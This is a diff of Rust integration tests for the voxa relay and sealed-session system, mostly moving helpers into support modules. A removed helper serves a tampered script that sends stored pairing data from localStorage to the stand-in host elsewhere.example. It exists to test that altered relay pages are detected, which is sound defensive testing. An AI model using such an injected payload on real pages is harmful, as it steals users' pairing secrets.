@@ -12,9 +12,11 @@ use tokio_tungstenite::tungstenite::Message;
 use voxa::agent::LinkEvent;
 use voxa::protocol::{ErrorCode, RelayPage};
 
-use crate::sealed::{audit_lines, flip_one_bit, Mitm, Way};
+use crate::support::audit::audit_lines;
 use crate::support::browser::{Browser, Scheme};
 use crate::support::harness::*;
+use crate::support::mitm::{altering_front, drop_next_up, flip_one_bit, Hook, Mitm, Way};
+use crate::support::sealed::{seal_mark, session_counts};
 
 /// Text of the terminal output, as shown.
 const TERMINAL: &str = "#commands-out";
@@ -126,20 +128,6 @@ pub(crate) fn assert_sealed_after_hello(capture: &[(Way, Message)], plaintexts: 
     assert!(hello_ok, "the page's hello_ok crossed the relay");
 }
 
-/// The connection's seal mark, as shown (empty when hidden).
-pub(crate) async fn seal_mark(browser: &Browser) -> String {
-    let shown = "const mark = document.getElementById('seal-mark'); return mark.hidden ? '' : mark.textContent;";
-    browser.script(shown, vec![]).await.as_str().unwrap_or_default().to_owned()
-}
-
-/// Sealed and plain sessions the agent holds, as its `status` says.
-pub(crate) async fn session_counts(agent: &TestAgent) -> (u64, u64) {
-    let mut local = agent.local_client().await;
-    send(&mut local, json!({"type":"status"})).await;
-    let status = recv_type(&mut local, "status").await;
-    (status["sealed_sessions"].as_u64().unwrap(), status["plain_sessions"].as_u64().unwrap())
-}
-
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_and_runs_a_tool() {
     let Some(browser) = Browser::start().await else { return };
@@ -190,7 +178,7 @@ async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_a
 }
 
 /// A hook that flips one bit of every sealed frame going `way` once `armed`.
-fn flip_when(armed: Arc<AtomicBool>, way: Way) -> crate::sealed::Hook {
+fn flip_when(armed: Arc<AtomicBool>, way: Way) -> Hook {
     Box::new(move |through, message| {
         if through == way && message.is_binary() && armed.load(Ordering::SeqCst) {
             vec![flip_one_bit(message)]
@@ -257,7 +245,7 @@ async fn a_relay_that_drops_the_pages_cancel_ends_the_session_within_one_tick_an
     let mut agent = TestAgent::start(Some(relay.url())).await;
     let status = agent.agent.ctx.status.clone();
     let (armed, dropped) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
-    let hook = crate::sealed_ticks::drop_next_up(armed.clone(), dropped.clone());
+    let hook = drop_next_up(armed.clone(), dropped.clone());
     let mitm = Mitm::start(relay.addr, agent.code(), hook).await;
     browser.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
     browser.wait_connection("online").await;
@@ -289,51 +277,6 @@ async fn a_relay_that_drops_the_pages_cancel_ends_the_session_within_one_tick_an
     browser.wait_connection("online").await;
     assert_eq!(seal_mark(&browser).await, "sealed");
     browser.close().await;
-}
-
-/// A front for a relay that serves one file of the page altered and passes everything else on,
-/// one request per connection (a kept-alive request is forwarded with `Connection: close`, so
-/// every request passes through the front).
-pub(crate) async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
-    use tokio::io::{AsyncReadExt, AsyncWriteExt};
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let addr = listener.local_addr().unwrap();
-    tokio::spawn(async move {
-        while let Ok((mut tcp, _)) = listener.accept().await {
-            tokio::spawn(async move {
-                let mut head = Vec::new();
-                let mut byte = [0u8; 1];
-                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
-                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
-                        return;
-                    }
-                    head.push(byte[0]);
-                }
-                if head.starts_with(format!("GET {altered} ").as_bytes()) {
-                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
-                    let answer =
-                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
-                    let _ = tcp.write_all(answer.as_bytes()).await;
-                    return;
-                }
-                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
-                let text = String::from_utf8_lossy(&head);
-                let head = if text.to_ascii_lowercase().contains("\r\nupgrade:") {
-                    head
-                } else {
-                    let kept: Vec<&str> = text
-                        .split("\r\n")
-                        .filter(|line| !line.to_ascii_lowercase().starts_with("connection:"))
-                        .collect();
-                    kept.join("\r\n").replacen("\r\n", "\r\nConnection: close\r\n", 1).into_bytes()
-                };
-                if upstream.write_all(&head).await.is_ok() {
-                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
-                }
-            });
-        }
-    });
-    addr
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -458,12 +401,12 @@ async fn an_altered_page_is_told_to_the_phone_inside_the_sealed_session() {
     // It came sealed: the relay saw none of it.
     assert_sealed_after_hello(&mitm.capture.lock().unwrap(), &["relay_page", "/js/files/panel.js"]);
     let scratch = tempfile::tempdir().unwrap();
-    let out = crate::web_pairing::pictures_dir(scratch.path());
-    crate::web::save_picture(&browser, &out, "web-relay-page.png").await;
+    let out = crate::support::pictures::pictures_dir(scratch.path());
+    crate::support::pictures::save_picture(&browser, &out, "web-relay-page.png").await;
     let dark = browser.another(Scheme::Dark).await;
     dark.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
     dark.wait_text("#relay-page", "the alarm", |t| !t.is_empty()).await;
-    crate::web::save_picture(&dark, &out, "web-relay-page-dark.png").await;
+    crate::support::pictures::save_picture(&dark, &out, "web-relay-page-dark.png").await;
     dark.close().await;
 
     // The page as voxa's: no alarm.
@@ -486,12 +429,12 @@ async fn voxa_run_says_loudly_that_the_relay_serves_an_altered_page() {
     let relay = TestRelay::start().await;
     let served = voxa::net::web::hashed_path("/js/session.js").expect("a hashed name");
     let front = format!("http://{}", altering_front(relay.addr, served).await);
-    let (mut run, _home, _dirs) = crate::run::start_run_with_env(&["--relay", &front], &[]);
+    let (mut run, _home, _dirs) = crate::support::run::start_run_with_env(&["--relay", &front], &[]);
     let event = run.wait_event("relay_page");
     assert_eq!(event, json!({"event": "relay_page", "state": "altered", "paths": ["/js/session.js"], "alarm": true}));
     run.stop();
 
-    let (dir, home) = crate::run::fresh_home();
+    let (dir, home) = crate::support::run::fresh_home();
     let workspace = tempfile::tempdir().unwrap();
     let mut cmd = crate::support::voxa_cmd(&home);
     cmd.args(["--quiet", "run", "--relay", &front, "--workspace"]).arg(workspace.path());
@@ -516,7 +459,8 @@ async fn a_relay_hosting_voice_leaves_the_pages_session_sealed_and_a_sealed_only
     use crate::support::fake_gemini::{FakeGemini, FakeOptions, Kind};
     use voxa::hosted::{Hosting, LiveConfig};
     let scratch = tempfile::tempdir().unwrap();
-    let Some(browser) = crate::web_voice::browser_with_tone(&scratch, crate::support::browser::Scheme::Light).await
+    let Some(browser) =
+        crate::support::browser::browser_with_tone(&scratch, crate::support::browser::Scheme::Light).await
     else {
         return;
     };
@@ -567,7 +511,7 @@ async fn pictures_of_the_sealed_mark_light_and_dark() {
         browser.press("Run").await;
         browser.wait_script("the command's end", "return !document.getElementById('run').disabled;").await;
         assert_eq!(seal_mark(&browser).await, "sealed");
-        crate::web::save_picture(&browser, &out, name).await;
+        crate::support::pictures::save_picture(&browser, &out, name).await;
         browser.close().await;
     }
 }
